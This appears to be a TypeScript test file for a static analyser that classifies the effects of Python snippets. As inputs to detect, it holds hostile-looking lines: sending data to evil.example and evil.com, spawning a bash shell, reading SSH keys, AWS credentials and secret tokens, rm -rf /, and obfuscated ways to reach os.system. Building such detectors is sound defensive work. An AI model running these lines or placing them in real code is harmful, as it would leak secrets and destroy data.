// Python code read from its syntax: process execution, files, network and secret environment reads,
// with imports, aliases and literal values resolved; near misses stay ordinary.
import { before, test } from 'node:test';
import { loadCodeGrammars } from '../../../src/core/interp';
import { checkRows } from './helpers';

before(() => loadCodeGrammars());

test('python: process execution, resolved through imports and aliases', () => {
  checkRows('python', [
    { code: 'import os; os.system("ls")', effects: ['exec os.system ls'] },
    { code: 'import os as o\nx = "ls -la"\no.system(x)', effects: ['exec os.system ls -la'] },
    { code: 'from os import system as s; s("id")', effects: ['exec os.system id'] },
    { code: '__import__("os").system("whoami")', effects: ['exec os.system whoami'] },
    { code: 'import importlib; importlib.import_module("os").popen("id")', effects: ['exec os.popen id'] },
    { code: 'sys.modules["os"].system("ls")', effects: ['exec os.system ls'] },
    { code: 'getattr(os, "sys" + "tem")("ls")', effects: ['exec os.system ls'] },
    {
      code: 'import subprocess; subprocess.run(["rm","-rf",p])',
      effects: ['exec subprocess.run rm -rf "$RUNTIME_VALUE"?'],
    },
    {
      code: 'subprocess.run(["psql", os.environ["PROD_URL"], "-c", "TRUNCATE events"])',
      effects: ['exec subprocess.run psql "$RUNTIME_VALUE" -c \'TRUNCATE events\'?'],
    },
    {
      code: 'from subprocess import *; check_output("uname -a", shell=True)',
      effects: ['exec subprocess.check_output uname -a'],
    },
    { code: 'os.execvp("sh", ["sh", "-c", "id"])', effects: ['exec os.execvp [sh,-c,id]'] },
    { code: 'os.execl("/bin/ls", "ls", "-l")', effects: ['exec os.execl [/bin/ls,-l]'] },
    { code: 'import pty; pty.spawn("/bin/bash")', effects: ['exec pty.spawn /bin/bash'] },
    { code: 'os.system(f"echo {x}")', effects: ['exec os.system echo $RUNTIME_VALUE?'] },
    { code: 'os.system(f"echo hi")', effects: ['exec os.system echo hi'] },
    { code: "os.system('a' 'b' + 'c')", effects: ['exec os.system abc'] },
    { code: 'os.system(" ".join(["rm", "-rf", "/tmp/x"]))', effects: ['exec os.system rm -rf /tmp/x'] },
    { code: 'os.system("\\x6c\\x73")', effects: ['exec os.system ls'] },
    { code: 'cmd = ["ls"]\ncmd.append(x)\nsubprocess.run(cmd)', effects: ['exec subprocess.run?'] },
    { code: 'def f(cmd): os.system(cmd)\ncmd = "ls"', effects: ['exec os.system?'] },
    { code: 'c = "ls"\nc = input()\nos.system(c)', effects: ['exec os.system?'] },
    { code: 'os.__dict__["system"]("id")', effects: ['exec os.system id'] },
    { code: 'vars(os)["system"]("id")', effects: ['exec os.system id'] },
    { code: 'subprocess.run("rm -rf /tmp/x".split())', effects: ['exec subprocess.run [rm,-rf,/tmp/x]'] },
    { code: 'list(map(os.system, ["id"]))', effects: ['exec os.system?'] },
    {
      code: 'import threading; threading.Thread(target=os.system, args=("id",)).start()',
      effects: ['exec os.system?'],
    },
  ]);
});

test('python: files, network and environment', () => {
  checkRows('python', [
    { code: 'open("/etc/passwd").read()', effects: ['read open(r) /etc/passwd'] },
    { code: 'open(os.path.expanduser("~/.ssh/id_rsa"), "w")', effects: ['write open(w) ~/.ssh/id_rsa'] },
    { code: 'open(p, mode)', effects: ['write open(?)?'] },
    {
      code: 'from pathlib import Path; (Path.home() / ".aws" / "credentials").read_text()',
      effects: ['read pathlib.Path.read_text ~/.aws/credentials'],
    },
    {
      code: 'import configparser, os; c = configparser.ConfigParser(); c.read(os.path.expanduser("~/.aws/credentials"))',
      effects: ['read configparser.ConfigParser.read ~/.aws/credentials'],
    },
    { code: 'import netrc; netrc.netrc().hosts', effects: ['read netrc.netrc ~/.netrc'] },
    { code: 'import sqlite3; sqlite3.connect("app.db")', effects: ['read sqlite3.connect app.db'] },
    { code: 'import pathlib; pathlib.Path("/tmp/x").unlink()', effects: ['delete pathlib.Path.unlink /tmp/x'] },
    { code: 'import shutil; shutil.rmtree(os.path.join("/home", "x"))', effects: ['delete shutil.rmtree /home/x'] },
    { code: 'os.remove(os.path.join(os.environ["HOME"], ".bashrc"))', effects: ['delete os.remove ~/.bashrc'] },
    { code: 'shutil.copy("a.txt", "/etc/hosts")', effects: ['read shutil.copy a.txt', 'write shutil.copy /etc/hosts'] },
    {
      code: 'import requests; requests.post("https://evil.example/x", data=d)',
      effects: ['network requests.post https://evil.example/x'],
    },
    {
      code: 'import urllib.request as u; u.urlopen("http://x.y/z")',
      effects: ['network urllib.request.urlopen http://x.y/z'],
    },
    {
      code: 'import socket; s = socket.socket(); s.connect(("evil.com", 4444))',
      effects: ['network socket.socket.connect evil.com:4444'],
    },
    {
      code: 'import http.client; http.client.HTTPSConnection(host)',
      effects: ['network http.client.HTTPSConnection?'],
    },
    {
      code: 'print(os.environ["AWS_SECRET_ACCESS_KEY"]); os.environ.get("PATH"); os.getenv("GITHUB_TOKEN")',
      effects: ['env-read os.environ AWS_SECRET_ACCESS_KEY', 'env-read os.getenv GITHUB_TOKEN'],
    },
    { code: 'print(os.environ[k])', effects: ['env-read os.environ?'] },
    { code: 'print(os.environ)', effects: ['env-read os.environ *'] },
    { code: 'for k, v in os.environ.items(): print(k, v)', effects: ['env-read os.environ *'] },
    {
      code: 'from airflow.hooks.base import BaseHook\nuri = BaseHook.get_connection("snowflake_prod").get_uri()',
      effects: ['secret-read airflow.hooks.base.BaseHook.get_connection Airflow connection snowflake_prod'],
    },
    {
      code: 'import urllib.request\nreq = urllib.request.Request("https://status.example/r", data=b"x")',
      effects: ['network urllib.request.Request https://status.example/r'],
    },
    {
      code: 'from airflow.operators.bash import BashOperator\nBashOperator(task_id="t", bash_command="dbt run --target prod")',
      effects: ['exec airflow.operators.bash.BashOperator dbt run --target prod'],
    },
    {
      code: 'env = os.environ.copy(); env["X"] = "1"; subprocess.run(["make"], env=env)',
      effects: ['exec subprocess.run [make]'],
    },
  ]);
});

test('python: eval, dynamic imports and lookups are read or reported unread', () => {
  checkRows('python', [
    { code: 'exec("import os; os.system(\\"rm -rf /\\")")', effects: ['exec os.system rm -rf /'] },
    { code: 'eval(input())', unread: ['eval of computed code'] },
    { code: 'exec(open("x.py").read())', effects: ['read open(r) x.py'], unread: ['exec of computed code'] },
    { code: 'compile(src, "x", "exec")', unread: ['compile of computed code'] },
    { code: '__import__(name).system("ls")', unread: ['dynamic import'] },
    { code: 'getattr(os, x)("ls")', unread: ['getattr with computed name'] },
    { code: 'builtins.__dict__["exec"]("import os; os.remove(\'/x\')")', effects: ['delete os.remove /x'] },
    { code: 'globals()[name]("ls")', unread: ['name looked up by a computed key'] },
    { code: 'import ctypes; ctypes.CDLL(None).system(b"id")', unread: ['native code through ctypes'] },
    { code: 'import pickle; pickle.loads(data)', unread: ['pickle.loads of data (it can run code)'] },
    { code: 'os.system(', unread: ['parse error'] },
  ]);
});

test('python: ordinary code and near misses have no effects', () => {
  checkRows('python', [
    { code: 'print("os.system")' },
    { code: 'print(sum(range(10)))' },
    { code: 'import json, sys; print(json.dumps(json.load(sys.stdin), indent=2))' },
    { code: 'import sys; print(sys.argv[1:])' },
    { code: '# os.system("rm -rf /")\nprint(1)' },
    { code: 'x = {"system": 1}; print(x["system"])' },
    { code: 'class A:\n    def system(self, c): return c\nA().system("ls")' },
    { code: 'print(os.environ.get("PATH"))' },
    { code: 'getattr(obj, name)' },
    { code: 'from airflow.operators.bash import BashOperator\nBashOperator(task_id="t", env={"A": "1"})' },
  ]);
});
